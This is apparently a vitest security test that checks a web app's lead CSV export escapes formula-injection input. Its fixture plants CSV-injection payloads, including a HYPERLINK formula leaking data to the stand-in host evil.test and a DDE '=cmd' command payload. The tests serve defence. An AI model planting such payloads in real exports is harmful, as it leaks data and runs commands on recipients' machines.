import { beforeAll, describe, expect, it } from 'vitest'

import { authHeaders, rest, signedInCaller, type Caller } from '../support/apiPaths'
import { appUrl } from '../support/context'
import { parseCsv } from '../support/csv'
import { testPayload } from '../support/payload'
import { makeLead } from '../support/triageLeads'

const FORMULA_START = /^[=+\-@\t\r]/

let sales: Caller

beforeAll(async () => {
  sales = await signedInCaller(await testPayload(), 'sales')
})

/**
 * An attacker sends an enquiry whose fields are spreadsheet formulas; sales export the leads
 * to CSV and open the file in a spreadsheet, which would run them (a link that leaks data,
 * a command). Every such cell must arrive as text.
 */
describe('planting spreadsheet formulas in a lead that sales export', () => {
  const planted = async () =>
    makeLead(await testPayload(), {
      role: '=HYPERLINK("http://evil.test/?leak="&A2,"Click for details")',
      name: '+1 (555) 0100',
      company: '@SUM(A1:A9)',
      message: '-2',
      context: { utmSource: '\t=cmd|" /C calc"!A0', utmMedium: '\r=1+1', utmCampaign: 'spring=sale' },
    })

  const expectInert = (row: Record<string, string>, lead: Awaited<ReturnType<typeof planted>>) => {
    expect(row.role).toBe(`'=HYPERLINK("http://evil.test/?leak="&A2,"Click for details")`)
    expect(row.name).toBe("'+1 (555) 0100")
    expect(row.company).toBe("'@SUM(A1:A9)")
    expect(row.message).toBe("'-2")
    expect(row.context_utmSource).toBe(`'\t=cmd|" /C calc"!A0`)
    // A carriage return would end the row in a spreadsheet: it arrives as a line feed, quoted.
    expect(row.context_utmMedium).toBe("'\n=1+1")
    // Ordinary text, and an `=` that does not start the cell, are left alone.
    expect(row.context_utmCampaign).toBe('spring=sale')
    expect(row.email).toBe(lead.email)
    expect(row.reference).toBe(lead.reference)
    expect(row.status).toBe('new')
    for (const [column, value] of Object.entries(row)) expect(value, column).not.toMatch(FORMULA_START)
  }

  it('downloads every formula-like cell as text', async () => {
    const lead = await planted()
    const res = await rest(sales, 'POST', '/exports/download', {
      data: { collectionSlug: 'leads', format: 'csv', where: { reference: { equals: lead.reference } } },
    })
    expect(res.status).toBe(200)
    const rows = parseCsv(res.data as string)
    expect(rows).toHaveLength(1)
    expectInert(rows[0]!, lead)
  })

  it('saves an export whose file holds every formula-like cell as text', async () => {
    const lead = await planted()
    const created = await rest(sales, 'POST', '/exports', {
      name: `formulas-${lead.reference}`,
      collectionSlug: 'leads',
      format: 'csv',
      where: { reference: { equals: lead.reference } },
    })
    expect(created.status).toBe(201)
    const doc = (created.data as { doc: { filename: string } }).doc
    const file = await fetch(appUrl(`/api/exports/file/${encodeURIComponent(doc.filename)}`), {
      headers: authHeaders(sales),
    })
    expect(file.status).toBe(200)
    const rows = parseCsv(await file.text())
    expect(rows).toHaveLength(1)
    expectInert(rows[0]!, lead)
  })
})
